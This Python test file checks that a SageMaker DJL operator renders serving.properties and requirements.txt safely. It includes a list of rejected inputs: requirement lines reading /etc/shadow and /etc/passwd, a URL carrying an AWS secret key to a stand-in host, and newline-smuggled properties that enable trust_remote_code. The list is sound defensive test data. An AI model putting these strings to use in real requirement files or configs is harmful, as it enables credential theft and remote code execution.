"""Rendering serving.properties / requirements.txt / template files from a spec."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from djl_operator import api
from djl_operator.artifacts import render
from djl_operator.errors import SpecError

ROLE = "arn:aws:iam::123456789012:role/SageMakerExecutionRole"


def make_spec(model: dict[str, Any] | None = None, **sections: Any) -> api.DjlEndpointSpec:
    body: dict[str, Any] = {
        "model": {"id": "facebook/bart-large", **(model or {})},
        "instance": {"type": "ml.g5.12xlarge"},
        "aws": {"executionRoleArn": ROLE, "artifactBucket": "my-sagemaker-artifacts"},
    }
    body.update(sections)
    return api.DjlEndpointSpec.model_validate(body)


@pytest.fixture
def template(tmp_path: Path) -> Path:
    root = tmp_path / "template"
    root.mkdir()
    (root / "model.py").write_text("def handle(inputs):\n    return None\n")
    (root / "djl_compat.py").write_text("# compat\n")
    (root / "requirements.txt").write_text("# what model.py needs\nsentencepiece>=0.1  # tokenizers\n\naccelerate\n")
    (root / "__pycache__").mkdir()
    (root / "__pycache__" / "model.cpython-311.pyc").write_bytes(b"\x00cache")
    (root / "stale.pyc").write_bytes(b"\x00cache")
    return root


# --- serving.properties: defaults --------------------------------------------------------------

DEFAULTS_CASES = [
    pytest.param(
        {},
        {},
        {
            "engine": "Python",
            "option.model_id": "facebook/bart-large",
            "option.task": "feature-extraction",
            "option.entryPoint": "model.py",
            "option.model_loading_timeout": "1800",
            "option.pooling": "none",
        },
        id="seed-defaults",
    ),
    pytest.param(
        {"revision": "main", "dtype": "fp16"},
        {"timeouts": {"containerStartupHealthCheckSeconds": 3600}},
        {
            "engine": "Python",
            "option.model_id": "facebook/bart-large",
            "option.task": "feature-extraction",
            "option.revision": "main",
            "option.dtype": "fp16",
            "option.entryPoint": "model.py",
            "option.model_loading_timeout": "3600",
            "option.pooling": "none",
        },
        id="revision-dtype-and-loading-timeout-follow-the-health-check",
    ),
    pytest.param(
        {"id": "TinyLlama/TinyLlama-1.1B-Chat-v1.0", "task": "text-generation", "engine": "MPI",
         "tensorParallelDegree": 2},
        {"image": {"framework": "djl-lmi"}},
        {
            "engine": "MPI",
            "option.model_id": "TinyLlama/TinyLlama-1.1B-Chat-v1.0",
            "option.task": "text-generation",
            "option.tensor_parallel_degree": "2",
            "option.model_loading_timeout": "1800",
        },
        id="lmi-generation-uses-lmi-handler-no-entry-point",
    ),
    pytest.param(
        {"task": "summarization", "engine": "DeepSpeed", "tensorParallelDegree": 4},
        {},
        {
            "engine": "DeepSpeed",
            "option.model_id": "facebook/bart-large",
            "option.task": "summarization",
            "option.tensor_parallel_degree": "4",
            "option.entryPoint": "model.py",
            "option.model_loading_timeout": "1800",
        },
        id="deepspeed-summarization",
    ),
]  # fmt: skip


@pytest.mark.parametrize(("model", "sections", "expected"), DEFAULTS_CASES)
def test_serving_properties_defaults(model: dict[str, Any], sections: dict[str, Any], expected: dict[str, str]):
    assert render.serving_properties(make_spec(model, **sections)) == expected


# --- serving.properties: user overrides ----------------------------------------------------------

OVERRIDE_CASES = [
    pytest.param({"option.pooling": "mean"}, "option.pooling", "mean", id="pooling"),
    pytest.param({"option.model_loading_timeout": "7200"}, "option.model_loading_timeout", "7200", id="timeout"),
    pytest.param({"option.entryPoint": "djl_python.huggingface"}, "option.entryPoint",
                 "djl_python.huggingface", id="built-in-handler"),
    pytest.param({"option.dtype": "bf16"}, "option.dtype", "bf16", id="unset-field-left-to-property"),
    pytest.param({"maxWorkers": "1"}, "maxWorkers", "1", id="extra-key"),
    pytest.param({"option.task": "feature-extraction"}, "option.task", "feature-extraction", id="same-value-ok"),
]  # fmt: skip


@pytest.mark.parametrize(("properties", "key", "value"), OVERRIDE_CASES)
def test_user_properties_override_defaults(properties: dict[str, str], key: str, value: str):
    props = render.serving_properties(make_spec({"properties": properties}))
    assert props[key] == value
    assert props["option.model_id"] == "facebook/bart-large"


# --- refusals: every message names the field ----------------------------------------------------

REFUSAL_CASES = [
    pytest.param({"engine": "DeepSpeed"}, {}, "spec.model.engine",
                 "does not serve task feature-extraction", id="deepspeed-feature-extraction"),
    pytest.param({"engine": "MPI", "task": "fill-mask"}, {"image": {"framework": "djl-lmi"}},
                 "spec.model.engine", "does not serve task fill-mask", id="mpi-fill-mask"),
    pytest.param({"tensorParallelDegree": 2}, {}, "spec.model.tensorParallelDegree",
                 "engine Python", id="python-tp"),
    pytest.param({"properties": {"option.tensor_parallel_degree": "max"}}, {},
                 "spec.model.properties[option.tensor_parallel_degree]", "engine Python", id="python-tp-property"),
    pytest.param({"engine": "DeepSpeed", "task": "text-generation"}, {"image": {"framework": "djl-lmi"}},
                 "spec.model.engine", "not available in djl-lmi", id="deepspeed-not-in-lmi"),
    pytest.param({"engine": "MPI", "task": "text-generation"}, {"image": {"framework": "djl-neuronx"}},
                 "spec.model.engine", "not available in djl-neuronx", id="mpi-not-in-neuronx"),
    pytest.param({"properties": {"option.task": "text-generation"}}, {},
                 "spec.model.properties[option.task]", "contradicts spec.model.task", id="task-contradiction"),
    pytest.param({"properties": {"engine": "MPI"}}, {},
                 "spec.model.properties[engine]", "contradicts spec.model.engine", id="engine-contradiction"),
    pytest.param({"properties": {"option.model_id": "gpt2"}}, {},
                 "spec.model.properties[option.model_id]", "contradicts spec.model.id", id="model-id-contradiction"),
    pytest.param({"dtype": "fp16", "properties": {"option.dtype": "bf16"}}, {},
                 "spec.model.properties[option.dtype]", "contradicts spec.model.dtype", id="dtype-contradiction"),
    pytest.param({"revision": "v1", "properties": {"option.revision": "v2"}}, {},
                 "spec.model.properties[option.revision]", "contradicts spec.model.revision", id="revision"),
    pytest.param({"properties": {"Option.Task": "feature-extraction"}}, {},
                 "spec.model.properties[Option.Task]", "write it as 'option.task'", id="case-variant"),
    pytest.param({"properties": {"option.entryPoint": "other.py"}}, {},
                 "spec.model.properties[option.entryPoint]", "must be model.py", id="foreign-entry-point"),
    pytest.param({"properties": {"option.pooling": "max"}}, {},
                 "spec.model.properties[option.pooling]", "must be one of none, mean, cls", id="pooling-value"),
    pytest.param({"task": "text-classification", "properties": {"option.pooling": "mean"}}, {},
                 "spec.model.properties[option.pooling]", "only applies to task feature-extraction",
                 id="pooling-wrong-task"),
    pytest.param({"properties": {"option.model_loading_timeout": "soon"}}, {},
                 "spec.model.properties[option.model_loading_timeout]", "positive number", id="timeout-text"),
    pytest.param({"properties": {"tensor_parallel_degree": "8"}}, {},
                 "spec.model.properties[tensor_parallel_degree]", "write it as 'option.tensor_parallel_degree'",
                 id="unprefixed-owned-key"),
    pytest.param({"properties": {"TASK": "feature-extraction"}}, {},
                 "spec.model.properties[TASK]", "write it as 'option.task'", id="unprefixed-case-variant"),
    pytest.param({"properties": {"option.pooling": "mean", "pooling": "cls"}}, {},
                 "spec.model.properties[pooling]", "duplicates spec.model.properties[option.pooling]",
                 id="prefixed-and-unprefixed"),
    pytest.param({"properties": {"maxWorkers": "1", "MAXWORKERS": "2"}}, {},
                 "spec.model.properties[MAXWORKERS]", "duplicates", id="case-duplicate"),
    pytest.param({"id": "s3://bucket/weights/", "revision": "main"}, {},
                 "spec.model.revision", "Hugging Face", id="revision-on-s3"),
]  # fmt: skip


@pytest.mark.parametrize(("model", "sections", "field", "words"), REFUSAL_CASES)
def test_refusals_name_the_field(model: dict[str, Any], sections: dict[str, Any], field: str, words: str):
    spec = make_spec(model, **sections)
    with pytest.raises(SpecError) as info:
        render.serving_properties(spec)
    assert info.value.field == field
    assert str(info.value).startswith(f"{field}: ")
    assert words in str(info.value)


# The typed model refuses these first (tests/unit/test_hostile_corpus.py); render refuses them
# too, for specs built without validation.
UNCHECKED_CASES = [
    pytest.param({"bad key": "x"}, "spec.model.properties[bad key]", "letters, digits", id="key-with-space"),
    pytest.param({"key\n": "x"}, "spec.model.properties[key\n]", "letters, digits", id="key-trailing-newline"),
    pytest.param({"option.x": "a\nengine=MPI"}, "spec.model.properties[option.x]", "single line", id="newline"),
    pytest.param({"option.x": "a\u2028engine=MPI"}, "spec.model.properties[option.x]", "single line", id="u2028"),
    pytest.param({"option.x": "a\x85b"}, "spec.model.properties[option.x]", "single line", id="nel"),
]


@pytest.mark.parametrize(("properties", "field", "words"), UNCHECKED_CASES)
def test_render_refuses_unchecked_properties(properties: dict[str, str], field: str, words: str):
    spec = make_spec()
    spec.model.properties = properties  # no validation on assignment: as if the typed model had let it through
    with pytest.raises(SpecError) as info:
        render.serving_properties(spec)
    assert info.value.field == field and words in info.value.message


def test_entry_point_check_does_not_stop_at_a_trailing_newline():
    spec = make_spec()
    props = {**render.serving_properties(spec), "option.entryPoint": "djl_python.huggingface\n"}
    with pytest.raises(SpecError, match="entryPoint"):
        render._check_matrix(spec, props)


def test_render_refuses_control_characters_in_first_class_fields():
    spec = make_spec({"revision": "main"})
    spec.model.revision = "main\noption.trust_remote_code=true"
    with pytest.raises(SpecError) as info:
        render.serving_properties(spec)
    assert info.value.field == "spec.model.revision"


def test_explicit_image_uri_skips_the_framework_engine_check():
    spec = make_spec(
        {"engine": "DeepSpeed", "task": "text-generation"},
        image={"framework": "djl-lmi", "uri": "123456789012.dkr.ecr.us-east-1.amazonaws.com/mine:1"},
    )
    assert render.serving_properties(spec)["engine"] == "DeepSpeed"


@pytest.mark.parametrize(
    ("engine", "task"), [(e, t) for e, tasks in render.SUPPORTED_TASKS.items() for t in sorted(tasks)]
)
def test_every_supported_pair_renders(engine: api.Engine, task: api.Task):
    props = render.serving_properties(make_spec({"engine": engine.value, "task": task.value}))
    assert (props["engine"], props["option.task"]) == (engine.value, task.value)


# --- formatting ---------------------------------------------------------------------------------

FORMAT_CASES = [
    pytest.param("plain", "plain", id="plain"),
    pytest.param(r"C:\path", r"C\:\\path", id="backslash"),
    pytest.param(" leading", r"\ leading", id="leading-space"),
    pytest.param("#not-a-comment", r"\#not-a-comment", id="leading-hash"),
    pytest.param("a=b:c", r"a\=b\:c", id="separators-inside"),
    pytest.param("a\nengine=MPI", r"a\nengine\=MPI", id="newline"),
    pytest.param("a\u2028b\x85c\x00", r"a\u2028b\u0085c\u0000", id="separators-and-nul"),
    pytest.param("café", r"caf\u00e9", id="latin1"),
    pytest.param("😀", r"\ud83d\ude00", id="astral"),
]


@pytest.mark.parametrize(("value", "written"), FORMAT_CASES)
def test_format_properties_escapes_like_java(value: str, written: str):
    text = render.format_properties({"option.x": value})
    assert text.splitlines()[1] == f"option.x={written}"
    assert text.isascii()


def test_format_properties_orders_owned_keys_first_then_sorted():
    props = render.serving_properties(make_spec({"properties": {"b": "1", "a": "2"}}))
    keys = [line.split("=", 1)[0] for line in render.format_properties(props).splitlines()[1:]]
    assert keys == [
        "engine", "option.model_id", "option.task", "option.entryPoint",
        "a", "b", "option.model_loading_timeout", "option.pooling",
    ]  # fmt: skip


# --- requirements.txt ---------------------------------------------------------------------------

REQUIREMENT_CASES = [
    pytest.param("", [], "", id="empty"),
    pytest.param("# comment\naccelerate\n", [], "accelerate\n", id="template-only"),
    pytest.param("accelerate\n", ["einops==0.8"], "accelerate\neinops==0.8\n", id="appended"),
    pytest.param("sentencepiece>=0.1  # why\naccelerate\n", ["SentencePiece==0.2.0"],
                 "accelerate\nSentencePiece==0.2.0\n", id="user-replaces-same-project"),
    pytest.param("accelerate\n", ["accelerate"], "accelerate\n", id="duplicate-dropped"),
    pytest.param("a_b\n", ["A.B[x]>=1; python_version>'3'"], "A.B[x]>=1; python_version>'3'\n",
                 id="pep503-normalised"),
    pytest.param("accelerate\n", ["--extra-index-url https://example.invalid/simple", "mypkg"],
                 "accelerate\n--extra-index-url https://example.invalid/simple\nmypkg\n", id="pip-options"),
]  # fmt: skip


@pytest.mark.parametrize(("template_text", "user", "expected"), REQUIREMENT_CASES)
def test_merge_requirements(template_text: str, user: list[str], expected: str):
    assert render.merge_requirements(template_text, user) == expected


BAD_REQUIREMENTS = [
    "", "   ", "a\nb", "a\rb", "# just a comment", "numpy # trailing comment",
    "-e git+https://example.invalid/x.git", "-r /etc/shadow", "-c constraints.txt", "--trusted-host evil.invalid",
    "--index-url=https://example.invalid/simple", "--extra-index-url file:///tmp", "--index-url", "--pre",
    "file:///etc/passwd", "./local/dir", "git+https://example.invalid/x.git",
    "x @ file:///etc/passwd", "x @ https://example.invalid/${AWS_SECRET_ACCESS_KEY}",
    "numpy\u2028--index-url https://evil.invalid", "numpy\x85x", "numpy\x0bx", "numpy\x0cx", "numpy\x1cx",
    "numpy \\", "numpy --hash=sha256:abc", "numpy --global-option=--evil", "numpy; ", "caf\u00e9",
]  # fmt: skip


@pytest.mark.parametrize("bad", BAD_REQUIREMENTS)
def test_bad_requirement_names_its_index(bad: str):
    with pytest.raises(SpecError) as info:
        render.merge_requirements("", ["ok", bad])
    assert info.value.field == "spec.model.requirements[1]"


@pytest.mark.parametrize(
    ("entry", "kind"),
    [
        ("numpy", render.RequirementKind.NAMED),
        ("A.B[x]>=1,<2; python_version>'3'", render.RequirementKind.NAMED),
        ("x @ https://example.invalid/x-1.0-py3-none-any.whl", render.RequirementKind.URL),
        ("--index-url https://pypi.example.invalid/simple", render.RequirementKind.INDEX_OPTION),
        ("--extra-index-url http://10.0.0.1:8080/simple/", render.RequirementKind.INDEX_OPTION),
    ],
)
def test_classify_requirement(entry: str, kind: render.RequirementKind):
    assert render.classify_requirement(0, entry)[0] is kind


# --- the whole file set -------------------------------------------------------------------------


def test_render_files_ships_template_without_caches(template: Path):
    spec = make_spec({"requirements": ["einops"]})
    files = render.render_files(spec, template)
    assert list(files) == ["djl_compat.py", "model.py", "requirements.txt", "serving.properties"]
    assert files["model.py"] == (template / "model.py").read_bytes()
    assert files["djl_compat.py"] == b"# compat\n"
    assert files["requirements.txt"] == b"sentencepiece>=0.1\naccelerate\neinops\n"
    assert b"option.model_id=facebook/bart-large\n" in files["serving.properties"]


def test_render_files_keeps_nested_template_files(template: Path):
    (template / "helpers").mkdir()
    (template / "helpers" / "util.py").write_text("X = 1\n")
    assert "helpers/util.py" in render.render_files(make_spec(), template)


def test_template_without_handler_is_an_error(tmp_path: Path):
    (tmp_path / "requirements.txt").write_text("")
    with pytest.raises(FileNotFoundError, match=r"model\.py"):
        render.render_files(make_spec(), tmp_path)


def test_default_template_is_the_shipped_model_template():
    files = render.template_files(render.default_template())
    assert "model.py" in files
    assert b"def handle(" in files["model.py"]
    assert not any("__pycache__" in path or path.endswith(".pyc") for path in files)
